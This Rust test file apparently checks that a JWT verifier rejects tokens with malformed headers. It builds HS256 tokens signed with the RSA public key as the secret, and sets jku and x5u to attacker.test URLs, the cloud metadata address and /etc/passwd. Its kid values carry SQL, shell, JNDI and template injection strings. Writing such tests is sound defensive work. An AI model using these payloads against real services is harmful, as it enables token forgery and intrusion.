//! Tokens with invalid headers (RFC 7515 section 4): the JSON, the parameters `alg`, `typ` and `kid`, and unsupported parameters.

use crate::Issuer;
use access::token::TokenError;
use aws_lc_rs::hmac;
use base64::{Engine, prelude::BASE64_STANDARD};
use serde_json::{Value, json};

use super::{
    Forge, Hostile,
    forge::{base64, bytes, nested, parts},
};

pub(super) fn hostile(forge: &Forge<'_>) -> Vec<Hostile> {
    [jsons, duplicates, algorithms, public_key_as_secret, types, parameters, key_ids]
        .iter()
        .flat_map(|subject| subject(forge))
        .collect()
}

fn jsons(forge: &Forge<'_>) -> Vec<Hostile> {
    let good = serde_json::to_string(&forge.header).expect("JSON");
    let with = |name: &'static str, member: &str| (name, forge.header_and(member));
    let utf_16: Vec<u8> = good.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let all = [
        ("an array", forge.header_of(format!("[{good}]"))),
        ("an array of names and values", forge.header_of(r#"["alg","RS256","typ","at+jwt"]"#)),
        ("a string", forge.header_of(format!("{good:?}"))),
        ("a number", forge.header_of("256")),
        ("true", forge.header_of("true")),
        ("null", forge.header_of("null")),
        ("empty", forge.header_of("")),
        ("a space", forge.header_of(" ")),
        ("base64url twice", forge.header_of(base64(&good))),
        ("cut off", forge.header_of(&good[..good.len() - 1])),
        ("text after it", forge.header_of(format!("{good}x"))),
        ("a second object after it", forge.header_of(format!("{good}{good}"))),
        ("a NUL after it", forge.header_of(format!("{good}\0"))),
        ("a byte order mark", forge.header_of(format!("\u{feff}{good}"))),
        ("a comma too many", forge.header_of(good.replace('}', ",}"))),
        ("a comma first", forge.header_of(good.replace('{', "{,"))),
        ("a comment before it", forge.header_of(format!("/* */{good}"))),
        ("a comment within", forge.header_of(good.replace('{', "{// comment\n"))),
        ("a hash comment after it", forge.header_of(format!("{good}# comment"))),
        ("single quotes", forge.header_of(good.replace('"', "'"))),
        ("names without quotes", forge.header_of(r#"{alg:"RS256",typ:"at+jwt",kid:"the-key-of-the-tests"}"#)),
        ("a form feed for a space", forge.header_of(good.replace(':', ":\u{c}"))),
        ("a no-break space for a space", forge.header_of(good.replace(':', ":\u{a0}"))),
        ("UTF-16", forge.header_of(utf_16)),
        ("a byte that is not UTF-8", forge.header_of(raw(&good, &[0xff]))),
        ("an overlong UTF-8 slash", forge.header_of(raw(&good, &[0xc0, 0xaf]))),
        ("a surrogate in UTF-8", forge.header_of(raw(&good, &[0xed, 0xa0, 0x80]))),
        ("UTF-8 cut off", forge.header_of(raw(&good, &[0xe2, 0x82]))),
        with("half a surrogate pair", r#""x":"\ud800""#),
        with("a newline in a string", "\"x\":\"\n\""),
        with("an escape that JSON does not have", r#""x":"\x41""#),
        with("a number beyond a double", r#""x":1e400"#),
        with("an integer beyond a double", &format!(r#""x":{}"#, "9".repeat(400))),
        with("NaN", r#""x":NaN"#),
        with("-Infinity", r#""x":-Infinity"#),
        with("a hexadecimal number", r#""x":0x10"#),
        with("a number with a zero before", r#""x":01"#),
        with("a number with a plus sign", r#""x":+1"#),
        with("arrays 130 deep", &format!(r#""x":{}"#, nested("[", "]", 130))),
        with("arrays 2000 deep", &format!(r#""x":{}"#, nested("[", "]", 2000))),
        with("arrays 4000 deep and never closed", &format!(r#""x":{}"#, "[".repeat(4000))),
        with("objects 130 deep", &format!(r#""x":{}"#, nested(r#"{"a":"#, "}", 130))),
        with("objects 500 deep", &format!(r#""x":{}"#, nested(r#"{"a":"#, "}", 500))),
    ];
    all.into_iter().map(|(name, token)| Hostile::new(format!("header: {name}"), token, TokenError::Header)).collect()
}

/// Returns the header with a string that contains bytes that JSON does not allow.
fn raw(good: &str, bytes: &[u8]) -> Vec<u8> {
    [good.replace('}', r#","x":""#).as_bytes(), bytes, b"\"}"].concat()
}

fn duplicates(forge: &Forge<'_>) -> Vec<Hostile> {
    let all = [
        ("alg, the same twice", forge.header_and(r#""alg":"RS256""#)),
        ("alg, none last", forge.header_and(r#""alg":"none""#)),
        ("alg, none first", forge.header_of(r#"{"alg":"none","alg":"RS256","typ":"at+jwt","kid":"the-key-of-the-tests"}"#)),
        ("alg, once with an escape", forge.header_and(r#""\u0061lg":"HS256""#)),
        ("typ", forge.header_and(r#""typ":"rt+jwt""#)),
        ("kid", forge.header_and(r#""kid":"the-second-key""#)),
        ("kid, once with an escape", forge.header_and(r#""k\u0069d":"the-second-key""#)),
        ("crit", forge.header_and(r#""crit":["exp"],"crit":["exp"]"#)),
        ("the empty name", forge.header_and(r#""":1,"":1"#)),
        ("another parameter", forge.header_and(r#""x":1,"x":1"#)),
        ("in an object of another parameter", forge.header_and(r#""x":{"a":1,"a":1}"#)),
        ("in an object in an array", forge.header_and(r#""x":[0,{"a":{"b":null,"b":null}}]"#)),
    ];
    all.into_iter()
        .map(|(name, token)| Hostile::new(format!("duplicate in the header: {name}"), token, TokenError::Header))
        .collect()
}

fn algorithms(forge: &Forge<'_>) -> Vec<Hostile> {
    let texts = [
        "none",
        "None",
        "NONE",
        "nOnE",
        "HS256",
        "HS384",
        "HS512",
        "RS384",
        "RS512",
        "PS256",
        "PS384",
        "PS512",
        "ES256",
        "ES384",
        "ES512",
        "ES256K",
        "EdDSA",
        "Ed25519",
        "RS1",
        "RSA-OAEP",
        "RSA1_5",
        "dir",
        "A128KW",
        "rs256",
        "Rs256",
        "RS256 ",
        " RS256",
        "RS256\0",
        "RS256\n",
        "RS256,none",
        "RS2567",
        "RS25",
        "RS-256",
        "RSA",
        "SHA256withRSA",
        "ＲＳ２５６",
        "RS256\u{200b}",
        "",
    ];
    let others = [json!(null), json!(256), json!(true), json!(["RS256"]), json!({ "RS256": true }), json!([]), json!({})];
    let values = texts.iter().map(|text| json!(text)).chain(others);
    let mut all: Vec<_> = values.map(|alg| one(forge, "alg", &alg, TokenError::Algorithm)).collect();
    all.push(Hostile::new("alg: missing", forge.header_without("alg"), TokenError::Algorithm));
    all.push(Hostile::new("alg: an empty header", forge.header_of("{}"), TokenError::Algorithm));
    let header = r#"{"Alg":"RS256","typ":"at+jwt","kid":"the-key-of-the-tests"}"#;
    all.push(Hostile::new("alg: its name in another case", forge.header_of(header), TokenError::Algorithm));
    all
}

/// Returns tokens that are signed with HS256 and the public key as the secret, which anyone could create.
fn public_key_as_secret(forge: &Forge<'_>) -> Vec<Hostile> {
    let jwk = forge.issuer.jwks().remove(0);
    let modulus = bytes(&jwk.n);
    // The encodings of RFC 8017 appendix A.1.1 and RFC 5280 section 4.1.2.7, for a modulus of 2048 bits and the exponent 65537.
    let pkcs_1 =
        [&[0x30, 0x82, 0x01, 0x0a, 0x02, 0x82, 0x01, 0x01, 0x00], modulus.as_slice(), &[0x02, 0x03, 0x01, 0x00, 0x01]].concat();
    let rsa_encryption = [0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00];
    let spki = [&[0x30, 0x82, 0x01, 0x22], rsa_encryption.as_slice(), &[0x03, 0x82, 0x01, 0x0f, 0x00], &pkcs_1].concat();
    let public = json!({ "kty": jwk.kty, "use": jwk.r#use, "alg": jwk.alg, "kid": jwk.kid, "n": jwk.n, "e": jwk.e });
    let secrets = [
        ("PEM", pem("PUBLIC KEY", &spki).into_bytes()),
        ("PEM without the last newline", pem("PUBLIC KEY", &spki).trim_end().as_bytes().to_vec()),
        ("PEM of PKCS #1", pem("RSA PUBLIC KEY", &pkcs_1).into_bytes()),
        ("DER", spki),
        ("DER of PKCS #1", pkcs_1),
        ("JWK", public.to_string().into_bytes()),
        ("modulus", modulus),
        ("modulus in base64url", jwk.n.into_bytes()),
        ("key id", Issuer::KID.as_bytes().to_vec()),
        ("empty", Vec::new()),
    ];
    let header = json!({ "alg": "HS256", "typ": "at+jwt", "kid": Issuer::KID });
    let payload = base64(serde_json::to_vec(&forge.claims).expect("JSON"));
    let message = format!("{}.{payload}", base64(header.to_string()));
    secrets
        .into_iter()
        .map(|(name, secret)| {
            let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, &secret), message.as_bytes());
            Hostile::new(
                format!("alg: HS256 with the public key as the secret, {name}"),
                format!("{message}.{}", base64(tag)),
                TokenError::Algorithm,
            )
        })
        .collect()
}

/// Returns DER in the PEM encoding of RFC 7468.
fn pem(label: &str, der: &[u8]) -> String {
    let text = BASE64_STANDARD.encode(der);
    let lines: Vec<_> = text.as_bytes().chunks(64).map(String::from_utf8_lossy).collect();
    format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n"))
}

fn types(forge: &Forge<'_>) -> Vec<Hostile> {
    let texts = [
        "JWT",
        "jwt",
        "rt+jwt",
        "application/rt+jwt",
        "id+jwt",
        "logout+jwt",
        "secevent+jwt",
        "dpop+jwt",
        "JOSE",
        "at",
        "at-jwt",
        "at jwt",
        "at+jwt ",
        " at+jwt",
        "at+jwt\0",
        "at+jwt;v=1",
        "application/at+jwt; charset=utf-8",
        "application/",
        "text/at+jwt",
        "application/application/at+jwt",
        "application//at+jwt",
        "application\\at+jwt",
        "at+jwt,rt+jwt",
        "at+jwts",
        "a\u{200b}t+jwt",
        "at\u{ff0b}jwt",
        "",
    ];
    let others = [json!(null), json!(1), json!(false), json!(["at+jwt"]), json!({ "at+jwt": 1 })];
    let values = texts.iter().map(|text| json!(text)).chain(others);
    let mut all: Vec<_> = values.map(|typ| one(forge, "typ", &typ, TokenError::Type)).collect();
    all.push(Hostile::new("typ: missing", forge.header_without("typ"), TokenError::Type));
    let header = r#"{"alg":"RS256","TYP":"at+jwt","kid":"the-key-of-the-tests"}"#;
    all.push(Hostile::new("typ: its name in another case", forge.header_of(header), TokenError::Type));
    all
}

fn parameters(forge: &Forge<'_>) -> Vec<Hostile> {
    let jwk = forge.issuer.jwks().remove(0);
    let public = json!({ "kty": "RSA", "n": jwk.n, "e": jwk.e });
    let all = [
        ("crit", json!(["exp"])),
        ("crit", json!(["b64"])),
        ("crit", json!(["http://example.com/UNDEFINED"])),
        ("crit", json!([])),
        ("crit", json!(null)),
        ("b64", json!(true)),
        ("b64", json!(false)),
        ("zip", json!("DEF")),
        ("zip", json!("")),
        ("enc", json!("A256GCM")),
        ("enc", json!(null)),
        ("cty", json!("JWT")),
        ("cty", json!("at+jwt")),
        ("jwk", public.clone()),
        ("jwk", json!({ "kty": "oct", "k": "AAAA" })),
        ("jwk", json!(null)),
        ("jku", json!("https://attacker.test/jwks.json")),
        ("jku", json!("file:///etc/passwd")),
        ("jku", json!("")),
        ("x5u", json!("https://attacker.test/key.pem")),
        ("x5u", json!("http://169.254.169.254/")),
        ("x5c", json!(["MIIC"])),
        ("x5c", json!([])),
    ];
    let mut all: Vec<_> =
        all.iter().map(|(parameter, value)| one(forge, parameter, value, TokenError::HeaderParameter)).collect();
    let escaped = forge.header_and(r#""\u006a\u0077\u006b":{"kty":"RSA"}"#);
    all.push(Hostile::new("jwk: its name with escapes", escaped, TokenError::HeaderParameter));
    all
}

fn key_ids(forge: &Forge<'_>) -> Vec<Hostile> {
    let no_texts =
        [json!(null), json!(0), json!(1.5), json!(true), json!([Issuer::KID]), json!({ "kid": Issuer::KID }), json!([])];
    let texts = [
        "",
        " ",
        "*",
        "0",
        "null",
        "another-key",
        "THE-KEY-OF-THE-TESTS",
        "The-key-of-the-tests",
        "the-key-of-the-tests ",
        " the-key-of-the-tests",
        "the-key-of-the-test",
        "the-key-of-the-testss",
        "the-key-of-the-tests\0",
        "the-key-of-the-tests\0.pem",
        "the-key-of-the-tests\n",
        "the_key_of_the_tests",
        "thе-key-of-the-tests",
        "the-key-of-the-tests\u{200b}",
        "../../../../dev/null",
        "..\\..\\key.pem",
        "/etc/passwd",
        "file:///dev/null",
        "https://attacker.test/key.pem",
        "' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        "1; DROP TABLE keys",
        "$(id)",
        "`id`",
        "| id",
        "${jndi:ldap://attacker.test/a}",
        "{{7*7}}",
        "%s%n",
        "__proto__",
        "the-key-of-the-tests,the-second-key",
    ];
    let mut all: Vec<_> = no_texts.iter().map(|kid| one(forge, "kid", kid, TokenError::KeyId)).collect();
    all.push(Hostile::new("kid: missing", forge.header_without("kid"), TokenError::KeyId));
    all.extend(texts.iter().map(|kid| one(forge, "kid", &json!(kid), TokenError::UnknownKey)));
    all.push(Hostile::new("kid: 4096 bytes", forge.header_with("kid", &json!("k".repeat(4096))), TokenError::UnknownKey));
    // Each token fails one check and every later one, which shows the order of the checks from the algorithm to the key id.
    let bad = [("alg", json!("none")), ("typ", json!("JWT")), ("crit", json!(["exp"])), ("kid", json!("another-key"))];
    let refusals = [TokenError::Algorithm, TokenError::Type, TokenError::HeaderParameter, TokenError::UnknownKey];
    all.extend(refusals.into_iter().enumerate().map(|(n, refusal)| {
        let token = forge.token(&bad[n..], &[("iss", json!("https://attacker.test"))]);
        let [header, payload, _] = parts(&token);
        Hostile::new(format!("order: {} and all that comes after it", bad[n].0), format!("{header}.{payload}.AAAA"), refusal)
    }));
    all
}

fn one(forge: &Forge<'_>, parameter: &str, value: &Value, refusal: TokenError) -> Hostile {
    Hostile::new(format!("{parameter}: {value}"), forge.header_with(parameter, value), refusal)
}
